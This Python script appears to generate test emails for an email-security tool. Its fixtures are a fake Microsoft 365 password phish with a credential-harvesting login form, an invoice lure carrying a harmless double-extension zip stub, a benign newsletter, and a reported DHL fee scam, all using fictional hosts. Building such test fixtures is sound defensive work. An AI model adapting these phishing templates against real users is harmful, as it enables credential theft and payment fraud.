#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
#
# make-examples.py -- write the four example emails in this directory.
#
# The emails are written by the mailsoar project for its demo and tests;
# every name and address in them is fictional.  People and companies use
# example.com/.org/.net; the "malicious" infrastructure uses made-up
# lookalike names under real public suffixes (so that the registrable
# domain can be computed) and IPs from the TEST-NET ranges of RFC 5737.
# Nothing in them is harmful: the "executable" inside the zip is 64 bytes
# of an MZ signature and zeros followed by a sentence of text; it is not a
# program and cannot run.
#
# Output is deterministic: fixed dates, fixed boundaries, fixed zip
# timestamps, so running this again produces identical bytes.  Lines end
# in LF throughout.
#
# usage: examples/make-examples.py [OUTDIR]     (default: this directory)

import base64
import io
import os
import quopri
import sys
import zipfile


def b64(data):
    """Base64 body lines of 76 characters, LF line ends."""
    return base64.encodebytes(data).decode("ascii")


def qp(text):
    """Quoted-printable body (UTF-8), LF line ends."""
    return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def hdr_b(text):
    """RFC 2047 'B' encoded words for a UTF-8 header value: each word at
    most 60 characters (the RFC allows 75), whole characters only, folded
    onto continuation lines."""
    words, chunk = [], b""
    for ch in text:
        enc = ch.encode("utf-8")
        if len(chunk) + len(enc) > 36:
            words.append(chunk)
            chunk = b""
        chunk += enc
    if chunk:
        words.append(chunk)
    return "\n ".join("=?UTF-8?B?" + base64.b64encode(w).decode("ascii") +
                       "?=" for w in words)


# ---------------------------------------------------------------------------
# 1. credential-phish.eml: fake Microsoft 365 "password expires" notice.

PHISH_HOST = "login-microsoftonline.com.secure-verify.top"
PHISH_FROM_DOMAIN = "m365-account-notice.top"

SECURE_MESSAGE_HTML = """\
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Microsoft 365 - Secure Message</title>
<style>
body { font-family: "Segoe UI", Arial, sans-serif; background: #f2f2f2; }
.box { width: 360px; margin: 60px auto; padding: 36px; background: #fff; }
.logo { background: url('https://cdn.secure-verify.top/assets/ms-logo.svg')
        no-repeat; height: 24px; }
</style>
</head>
<body>
<div class="box">
  <div class="logo"></div>
  <h2>Sign in to view your secure message</h2>
  <p>This message is protected. Confirm your password to continue.</p>
  <form method="post"
        action="https://secure-verify.top/owa/auth/collect.php">
    <input type="hidden" name="src" value="secure_message">
    <input type="email" name="login" value="bob@example.org">
    <input type="password" name="passwd" placeholder="Password">
    <input type="submit" value="Sign in">
  </form>
  <p><a href="https://login-microsoftonline.com.secure-verify.top/forgot">
  Forgot my password</a></p>
</div>
</body>
</html>
"""

CRED_TEXT = """\
Microsoft 365

Your password for bob@example.org expires in 24 hours.

To keep your current password and avoid losing access to Outlook,
Teams and OneDrive, confirm it before 11 March 2026 08:00 UTC:

https://portal.office.com/account/password

A secure message from your administrator is attached
(Secure_Message.html).

Microsoft 365 Account Team
This is an automated message. Please do not reply.
"""

CRED_HTML = """\
<html>
<head><meta charset="utf-8"></head>
<body style="font-family: Segoe UI, Arial, sans-serif;">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td><img src="http://203.0.113.45/img/m365-header.png" alt="Microsoft 365"
 width="600" height="80"></td></tr>
<tr><td>
<p>Your password for <b>bob@example.org</b> expires in <b>24 hours</b>.</p>
<p>To keep your current password and avoid losing access to Outlook, Teams
and OneDrive, confirm it before 11 March 2026 08:00 UTC.</p>
<p style="text-align: center;">
<a href="https://%(host)s/common/oauth2/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&amp;login_hint=bob%%40example.org&amp;rid=7f3e9a"
 style="background: #0078d4; color: #fff; padding: 10px 24px;">https://portal.office.com/account/password</a>
</p>
<p>A secure message from your administrator is attached.</p>
<p style="font-size: 11px; color: #666;">Microsoft 365 Account Team.
<a href="https://%(host)s/privacy">Privacy Statement</a> |
<a href="http://www.microsoft.com/unsubscribe">Unsubscribe</a></p>
</td></tr>
</table>
</body>
</html>
""" % {"host": PHISH_HOST}


def credential_phish():
    subject = hdr_b("\u26a0 Action required: your password expires in 24 hours")
    return """\
Return-Path: <bounce-4412@mail.{d}>
Delivered-To: bob@example.org
Received: from mx1.example.org (mx1.example.org [192.0.2.25])
	by mail.example.org (Postfix) with ESMTPS id 4R7kq52HbTz9sWQ
	for <bob@example.org>; Tue, 10 Mar 2026 07:14:31 +0000 (UTC)
Received: from mail.{d} (unknown [203.0.113.45])
	by mx1.example.org (Postfix) with ESMTP id 4R7kq46m1Nz9sWL
	for <bob@example.org>; Tue, 10 Mar 2026 07:14:29 +0000 (UTC)
Received: from WIN-7H2K9QDL0B3 ([198.51.100.77])
	by mail.{d} with ESMTPSA id 3bq1x0Rz
	for <bob@example.org>; Tue, 10 Mar 2026 08:14:22 +0100
Authentication-Results: mx1.example.org;
	spf=fail (mx1.example.org: domain of
	bounce-4412@mail.{d} does not designate
	203.0.113.45 as permitted sender)
	smtp.mailfrom=bounce-4412@mail.{d};
	dkim=none (message not signed);
	dmarc=fail (p=NONE sp=NONE dis=NONE) header.from={d}
Received-SPF: Fail (mailfrom) identity=mailfrom; client-ip=203.0.113.45;
	helo=mail.{d};
	envelope-from=bounce-4412@mail.{d}; receiver=<UNKNOWN>
From: "Microsoft 365" <no-reply@{d}>
Reply-To: "IT Helpdesk" <helpdesk.m365@mail-support.example.net>
To: "Bob Jones" <bob@example.org>
Subject: {subject}
Date: Tue, 10 Mar 2026 08:14:22 +0100
Message-ID: <20260310071422.4F2A1C0B9E@mail.{d}>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
X-Priority: 1 (Highest)
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="b1_cp_9f6c2e0d7a"

This is a multi-part message in MIME format.

--b1_cp_9f6c2e0d7a
Content-Type: multipart/alternative;
	boundary="b2_cp_41d8cd98f0"

--b2_cp_41d8cd98f0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{text}
--b2_cp_41d8cd98f0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{html}
--b2_cp_41d8cd98f0--

--b1_cp_9f6c2e0d7a
Content-Type: text/html; charset=utf-8; name="Secure_Message.html"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="Secure_Message.html"

{att}
--b1_cp_9f6c2e0d7a--
""".format(d=PHISH_FROM_DOMAIN, subject=subject, text=qp(CRED_TEXT),
           html=qp(CRED_HTML), att=b64(SECURE_MESSAGE_HTML.encode("utf-8")))


# ---------------------------------------------------------------------------
# 2. malware-lure.eml: an invoice with a zip holding a "double extension"
#    file.  The inner file is NOT a program (see the header comment).

INNER_NAME = "Invoice_2026-1187.pdf.exe"
ZIP_NAME = "Invoice_2026-1187.zip"


def inner_stub():
    head = b"MZ" + b"\x00" * 62
    text = (b"mailsoar example file: a harmless stand-in for a malware "
            b"sample. This is not a program and cannot run.\r\n")
    return head + text


def make_zip():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        zi = zipfile.ZipInfo(INNER_NAME, date_time=(2026, 3, 11, 9, 2, 14))
        zi.compress_type = zipfile.ZIP_DEFLATED
        zi.create_system = 0            # MS-DOS, whatever the host
        zi.external_attr = 0x20         # FILE_ATTRIBUTE_ARCHIVE
        z.writestr(zi, inner_stub(), compresslevel=9)
    return buf.getvalue()


LURE_TEXT = """\
Good morning,

Please find attached invoice 2026-1187 for the goods delivered on
2 March 2026 (PO 45-88123). Payment is due within 7 days.

Amount due: EUR 14,860.00
IBAN: see the attached invoice

Our bank details have changed this quarter; please update your records
and use only the details in the attachment. The invoice can also be
viewed on our billing portal:

https://northwind-billing.xyz/portal/inv/2026-1187?ref=ACME

Kind regards,

Laura Bennett
Accounts Receivable
Northwind Traders Ltd.
"""


def malware_lure():
    return """\
Return-Path: <laura.bennett@northwind-billing.xyz>
Delivered-To: ap@example.com
Received: from mx2.example.com (mx2.example.com [192.0.2.26])
	by mail.example.com (Postfix) with ESMTPS id 4R8Cz10YqNz4xL2
	for <ap@example.com>; Wed, 11 Mar 2026 09:04:52 +0000 (UTC)
Received: from vps-2231.hosting.example.net (vps-2231.hosting.example.net
	[198.51.100.143]) by mx2.example.com (Postfix) with ESMTP id
	4R8Cz06bkKz4xKx for <ap@example.com>;
	Wed, 11 Mar 2026 09:04:50 +0000 (UTC)
Received: from [203.0.113.201] (helo=DESKTOP-Q4K1M2P)
	by vps-2231.hosting.example.net with esmtpa (Exim 4.96)
	(envelope-from <laura.bennett@northwind-billing.xyz>)
	id 1tRz9X-0004Kq-2c for ap@example.com;
	Wed, 11 Mar 2026 10:04:47 +0100
Authentication-Results: mx2.example.com;
	spf=softfail (mx2.example.com: domain of transitioning
	laura.bennett@northwind-billing.xyz does not designate 198.51.100.143
	as permitted sender) smtp.mailfrom=laura.bennett@northwind-billing.xyz;
	dkim=fail (signature verification failed) header.d=northwind-billing.xyz
	header.s=default header.b=Vb3kq2Zx;
	dmarc=none header.from=northwind-billing.xyz
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
	d=northwind-billing.xyz; s=default; t=1773219887;
	h=from:to:subject:date:message-id;
	bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
	b=Vb3kq2ZxT0mJc9d5Qm2g7cY3yQfXh1kq8n4bW0pR6sLrVvE2uA9tKzNqJ3xH5oFi
	 dGk7yP1wS0aB4cD6eF8gH0iJ2kL4mN6oP8qR0sT2uV4wX6yZ8aB0cD2eF4gH6iJ8k=
From: "Laura Bennett | Northwind Traders"
	<laura.bennett@northwind-billing.xyz>
To: "Accounts Payable" <ap@example.com>
Subject: Invoice 2026-1187 - payment due 18/03/2026
Date: Wed, 11 Mar 2026 10:04:47 +0100
Message-ID: <000d01dc8a3e$5f1c2b40$1d548100$@northwind-billing.xyz>
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdyKPl8cQ0a1b2c3d4e5f6g7h8i9j0==
Content-Language: en-gb
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="----=_NextPart_000_000E_01DC8A46.C0E09340"

This is a multipart message in MIME format.

------=_NextPart_000_000E_01DC8A46.C0E09340
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

{text}
------=_NextPart_000_000E_01DC8A46.C0E09340
Content-Type: application/x-zip-compressed; name="{zname}"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="{zname}"

{att}
------=_NextPart_000_000E_01DC8A46.C0E09340--
""".format(text=LURE_TEXT, zname=ZIP_NAME, att=b64(make_zip()))


# ---------------------------------------------------------------------------
# 3. newsletter.eml: a benign newsletter, everything passes.

NEWS_TEXT = """\
The Example Gazette -- Security Weekly, issue 11 (March 2026)

1. Five habits that stop phishing
   Check the sender's address, not only the display name; hover before
   you click; never type your password after following a link in an email.
   Read more: https://news.example.com/t/c/a9f3e1?u=%2Fsecurity%2Fhabits

2. Report, don't delete
   If an email looks wrong, forward it to your security team as an
   attachment. They would rather see ten harmless ones than miss one.
   Read more: https://news.example.com/t/c/a9f3e2?u=%2Fsecurity%2Freport

3. Passkeys, explained
   https://news.example.com/t/c/a9f3e3?u=%2Fsecurity%2Fpasskeys

You receive this because you subscribed at news.example.com.
Unsubscribe: https://news.example.com/u/5b1d7c0e2f
The Example Gazette, 100 Example Street, Springfield
"""

NEWS_HTML = """\
<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Security Weekly</title></head>
<body style="margin:0; background:#f4f4f4;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0">
<tr><td align="center">
<table role="presentation" width="600" style="background:#ffffff;">
<tr><td><a href="https://news.example.com/t/c/a9f3e0?u=%2F"><img
 src="https://news.example.com/static/gazette-logo.png" width="600"
 alt="The Example Gazette"></a></td></tr>
<tr><td style="padding:16px; font-family:Georgia, serif;">
<h1>Security Weekly &mdash; issue 11</h1>
<h2>1. Five habits that stop phishing</h2>
<p>Check the sender&rsquo;s address, not only the display name; hover
before you click; never type your password after following a link in an
email. <a href="https://news.example.com/t/c/a9f3e1?u=%2Fsecurity%2Fhabits">Read
more</a></p>
<h2>2. Report, don&rsquo;t delete</h2>
<p>If an email looks wrong, forward it to your security team as an
attachment. <a href="https://news.example.com/t/c/a9f3e2?u=%2Fsecurity%2Freport">Read
more</a></p>
<h2>3. Passkeys, explained</h2>
<p><a href="https://news.example.com/t/c/a9f3e3?u=%2Fsecurity%2Fpasskeys">Read
the guide</a></p>
</td></tr>
<tr><td style="padding:16px; font-size:11px; color:#777;">
You receive this because you subscribed at news.example.com.
<a href="https://news.example.com/u/5b1d7c0e2f">Unsubscribe</a> &middot;
<a href="https://news.example.com/privacy">Privacy</a><br>
The Example Gazette, 100 Example Street, Springfield
</td></tr>
</table>
</td></tr>
</table>
<img src="https://news.example.com/t/o/a9f3e.gif" width="1" height="1" alt="">
</body>
</html>
"""


def newsletter():
    return """\
Return-Path: <bounces+a9f3e-carol=example.org@news.example.com>
Delivered-To: carol@example.org
Received: from mx1.example.org (mx1.example.org [192.0.2.25])
	by mail.example.org (Postfix) with ESMTPS id 4R9Lm23xWcz9sZ1
	for <carol@example.org>; Thu, 12 Mar 2026 06:00:09 +0000 (UTC)
Received: from out-7.mta.news.example.com (out-7.mta.news.example.com
	[198.51.100.7]) by mx1.example.org (Postfix) with ESMTPS id
	4R9Lm16QpDz9sYw for <carol@example.org>;
	Thu, 12 Mar 2026 06:00:08 +0000 (UTC)
Received: from campaign-3.news.example.com (campaign-3.news.example.com
	[198.51.100.3]) by out-7.mta.news.example.com (Postfix) with ESMTP id
	4R9Lm14bVqz1x for <carol@example.org>;
	Thu, 12 Mar 2026 06:00:07 +0000 (UTC)
Authentication-Results: mx1.example.org;
	dkim=pass (2048-bit key; unprotected) header.d=news.example.com
	header.i=@news.example.com header.a=rsa-sha256 header.s=gz1
	header.b=kR2c9ZpQ;
	spf=pass (mx1.example.org: domain of
	bounces+a9f3e-carol=example.org@news.example.com designates
	198.51.100.7 as permitted sender)
	smtp.mailfrom=bounces+a9f3e-carol=example.org@news.example.com;
	dmarc=pass (p=REJECT sp=REJECT dis=NONE) header.from=news.example.com
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=news.example.com;
	s=gz1; t=1773295207; h=from:to:subject:date:message-id:mime-version:
	list-unsubscribe:list-unsubscribe-post;
	bh=2jmj7l5rSw0yVb/vlWAYkK/YBwk4h8b3ZpQ9cWk1M0E=;
	b=kR2c9ZpQx7YtV3mNw8LsE1dKf5Hq0JbR4uG6aT9cP2oZ1yX3vB7nM5kL8jH2gF4d
	 S6aD0fG2hJ4kL6zX8cV0bN2mQ4wE6rT8yU0iO2pA4sD6fG8hJ0kL2zX4cV6bN8mQ=
From: "The Example Gazette" <newsletter@news.example.com>
To: carol@example.org
Subject: Security Weekly #11: five habits that stop phishing
Date: Thu, 12 Mar 2026 06:00:07 +0000
Message-ID: <gz.a9f3e.20260312060007.carol@news.example.com>
List-Id: Security Weekly <security-weekly.news.example.com>
List-Unsubscribe: <https://news.example.com/u/5b1d7c0e2f>,
	<mailto:unsubscribe@news.example.com?subject=unsubscribe-5b1d7c0e2f>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk
Feedback-ID: a9f3e:security-weekly:gazette
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="=_gz_alt_5b1d7c0e2f"

--=_gz_alt_5b1d7c0e2f
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{text}
--=_gz_alt_5b1d7c0e2f
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{html}
--=_gz_alt_5b1d7c0e2f--
""".format(text=qp(NEWS_TEXT), html=qp(NEWS_HTML))


# ---------------------------------------------------------------------------
# 4. reported-phish.eml: an employee forwards a fake DHL notice to the SOC
#    as a message/rfc822 attachment.

DHL_HOST = "dhl-parcel-redelivery.icu"

DHL_TEXT = """\
DHL Express

Dear customer,

Your parcel 7301-5591-02 could not be delivered on 12/03/2026 because
the customs fee of \u20ac1,99 has not been paid.

Pay the fee and choose a new delivery date here:
https://{h}/track?id=7301559102&lang=en

If the fee is not paid within 48 hours the parcel will be returned to
the sender.  Payment page (backup):
http://198.51.100.66/dhl/pay.php?ref=7301559102

DHL Customer Service
""".format(h=DHL_HOST)

DHL_HTML = """\
<html>
<head><meta charset="utf-8"></head>
<body style="font-family: Arial, sans-serif;">
<div style="background:#ffcc00; padding:12px;"><img
 src="https://{h}/img/dhl-logo.png" alt="DHL" height="30"></div>
<p>Dear customer,</p>
<p>Your parcel <b>7301-5591-02</b> could not be delivered on 12/03/2026
because the customs fee of <b>&euro;1,99</b> has not been paid.</p>
<p><a href="https://{h}/track?id=7301559102&amp;lang=en"
 style="background:#d40511; color:#fff; padding:8px 16px;">Track your
parcel</a></p>
<p>If the fee is not paid within 48 hours the parcel will be returned to
the sender. <a href="http://198.51.100.66/dhl/pay.php?ref=7301559102">Payment
page (backup)</a></p>
<p style="font-size:11px;">DHL Customer Service</p>
</body>
</html>
""".format(h=DHL_HOST)


def dhl_notice():
    return """\
Return-Path: <noreply@{h}>
Received: from mx1.example.org (mx1.example.org [192.0.2.25])
	by mail.example.org (Postfix) with ESMTPS id 4R9Q1k0Jvhz9sZ7
	for <alice@example.org>; Thu, 12 Mar 2026 07:11:58 +0000 (UTC)
Received: from smtp.{h} (unknown [203.0.113.88])
	by mx1.example.org (Postfix) with ESMTP id 4R9Q1j5yXBz9sZ3
	for <alice@example.org>; Thu, 12 Mar 2026 07:11:57 +0000 (UTC)
Received: from localhost (localhost [127.0.0.1])
	by smtp.{h} (Postfix) with ESMTPSA id 8C1D2E0F3A
	for <alice@example.org>; Thu, 12 Mar 2026 07:11:55 +0000 (UTC)
Authentication-Results: mx1.example.org;
	spf=pass (mx1.example.org: domain of noreply@{h}
	designates 203.0.113.88 as permitted sender)
	smtp.mailfrom=noreply@{h};
	dkim=none (message not signed);
	dmarc=none (p=NONE) header.from={h}
From: "DHL Express" <noreply@{h}>
To: alice@example.org
Subject: {subject}
Date: Thu, 12 Mar 2026 07:11:55 +0000
Message-ID: <e5b0c7a2-91d4-4f0e-a3c1-7301559102aa@{h}>
X-Mailer: Microsoft CDO for Windows 2000
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="alt_dhl_7301559102"

--alt_dhl_7301559102
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{text}
--alt_dhl_7301559102
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{html}
--alt_dhl_7301559102--
""".format(h=DHL_HOST,
           subject=hdr_b("DHL: Ihre Sendung 7301-5591-02 wird zur\u00fcckgehalten"),
           text=qp(DHL_TEXT), html=qp(DHL_HTML))


REPORT_TEXT = """\
Hi SOC team,

I got the attached email this morning. I am not expecting a parcel.
Is this legit? I did not click on anything.

Thanks,
Alice

--
Alice Martin | Finance | Example Org
"""


def reported_phish():
    return """\
Return-Path: <alice@example.org>
Delivered-To: soc@example.org
Received: from mail.example.org (localhost [127.0.0.1])
	by mail.example.org (Postfix) with LMTP id 4R9Qf20Cpbz9sZK
	for <soc@example.org>; Thu, 12 Mar 2026 07:29:41 +0000 (UTC)
Received: from [192.0.2.150] (laptop-alice.corp.example.org [192.0.2.150])
	(Authenticated sender: alice@example.org)
	by mail.example.org (Postfix) with ESMTPSA id 4R9Qf16TwRz9sZ8
	for <soc@example.org>; Thu, 12 Mar 2026 07:29:40 +0000 (UTC)
Authentication-Results: mail.example.org;
	auth=pass smtp.auth=alice@example.org;
	spf=pass (sender is authenticated) smtp.mailfrom=alice@example.org;
	dkim=pass header.d=example.org header.s=mail2026;
	dmarc=pass (p=QUARANTINE) header.from=example.org
From: "Alice Martin" <alice@example.org>
To: "Security Operations" <soc@example.org>
Subject: Suspicious email: DHL parcel on hold
Date: Thu, 12 Mar 2026 08:29:38 +0100
Message-ID: <7c2e4a10-3b5f-4d8e-9a61-0f2b8c9d1e73@example.org>
User-Agent: Mozilla Thunderbird
Content-Language: en-US
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="------------rep0Yq8c2Hn1Lx4v"

This is a multi-part message in MIME format.
--------------rep0Yq8c2Hn1Lx4v
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

{text}
--------------rep0Yq8c2Hn1Lx4v
Content-Type: message/rfc822; name="DHL parcel on hold.eml"
Content-Disposition: attachment; filename="DHL parcel on hold.eml"

{inner}
--------------rep0Yq8c2Hn1Lx4v--
""".format(text=REPORT_TEXT, inner=dhl_notice())


EXAMPLES = {
    "credential-phish.eml": credential_phish,
    "malware-lure.eml": malware_lure,
    "newsletter.eml": newsletter,
    "reported-phish.eml": reported_phish,
}


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else \
        os.path.dirname(os.path.abspath(__file__))
    for name, fn in EXAMPLES.items():
        data = fn().encode("ascii")     # every header and body is 7-bit
        path = os.path.join(outdir, name)
        with open(path, "wb") as f:
            f.write(data)
        print("wrote %s (%d bytes)" % (path, len(data)))


if __name__ == "__main__":
    main()
